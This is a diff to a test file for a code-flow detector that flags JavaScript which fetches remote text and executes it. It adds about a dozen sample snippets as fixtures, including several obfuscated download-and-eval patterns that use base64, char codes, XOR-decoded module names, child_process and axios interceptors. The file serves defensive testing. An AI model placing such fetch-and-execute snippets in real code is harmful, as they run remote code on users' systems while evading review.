@@ -128,3 +128,42 @@ describe('honest code', () => {
     expect(found.filter((kind) => /^(?:network|socket|chain|dns)/.test(kind))).toEqual([]);
   });
 });
+
+describe('what calls what, in further spellings', () => {
+  const more: Readonly<Record<string, string>> = {
+    'then(eval)': `fetch('${U}').then((r) => r.text()).then(eval);`,
+    'then(Function)': `fetch('${U}').then((r) => r.text()).then(Function).then((f) => f());`,
+    'then(vm.runInThisContext)': `fetch('${U}').then((r) => r.text()).then(require('vm').runInThisContext);`,
+    'a timer gets the text': `(async () => { const t = await (await fetch('${U}')).text(); setTimeout(t, 0); })();`,
+    'node -e': `require('child_process').exec('node -e "fetch(\\'${U}\\').then(r=>r.text()).then(t=>eval(t))"');`,
+    'code in decoded code': `eval(atob('${Buffer.from(`fetch('${U}').then((r) => r.text()).then((t) => eval(t))`).toString('base64')}'));`,
+    'names from char codes': `const s = (...n) => String.fromCharCode(...n); globalThis[s(102,101,116,99,104)]('${U}').then((r) => r.text()).then((t) => globalThis[s(101,118,97,108)](t));`,
+    'modules from a list': `const d = (a) => a.map((c, i) => String.fromCharCode(c ^ [7, 9][i % 2])).join(''); const [http] = [[102, 113, 110, 102, 116]].map((m) => require(d(m))); http.get('${U}').then((r) => eval(r.data));`,
+    'global alias handed in': `global['r'] = require; (function (g) { g['r']('https').get('${U}', (x) => { let b = ''; x.on('data', (d) => (b += d)); x.on('end', () => g['eval'](b)); }); })(global);`,
+    interceptor: `const axios = require('axios'); const c = axios.create({ baseURL: '${U}' }); c.interceptors.response.use((r) => { eval(r.data.code); return r; });`,
+  };
+  it.each(Object.entries(more))('%s', async (_name, source) => {
+    const flows = await codeFlows({ 'a.js': source }, 'a.js');
+    expect(kinds(flows)).toContain('network-body');
+    expect(addresses(flows)).toContain(U);
+  });
+
+  it('injected services, and rxjs', async () => {
+    const source = `import { HttpService } from '@nestjs/axios'; export class S { constructor(private readonly http: HttpService) {} run() { this.http.get('${U}').pipe().subscribe({ next: (r) => this.go(r.data) }); } go(t: string) { eval(t); } }`;
+    expect(addresses(await codeFlows({ 'a.ts': source }, 'a.ts'))).toContain(U);
+  });
+
+  it('callbacks and compositions over files', async () => {
+    const files = {
+      'lib.js': `exports.load = (u, cb) => { require('https').get(u, (r) => { let b = ''; r.on('data', (c) => { b += c; }); r.on('end', () => cb(null, b)); }); }; exports.pipe = (...fns) => (x) => fns.reduce((p, f) => p.then(f), Promise.resolve(x)); exports.get = (u) => fetch(u); exports.text = (r) => r.text(); exports.run = (s) => Function(s)();`,
+      'a.js': `const { load, pipe, get, text, run } = require('./lib'); load('${U}', (e, body) => eval(body)); exports.go = pipe(get, text, run); exports.go('${U}');`,
+    };
+    expect(addresses(await codeFlows(files, 'a.js'))).toContain(U);
+    expect(addresses(await codeFlows(files, 'lib.js'))).toContain(U);
+  });
+
+  it('a timer that is handed functions is no sink', async () => {
+    const source = `const axios = require('axios'); const api = axios.create({ baseURL: '${U}' }); function later(cb) { setTimeout(cb, 1); } later(() => {}); setTimeout(api.get, 5); setTimeout(make(axios.get('${U}')), 5); https.get('${U}', (res) => setTimeout(res.destroy, 5));`;
+    expect(await codeFlows({ 'a.js': source }, 'a.js')).toEqual([]);
+  });
+});
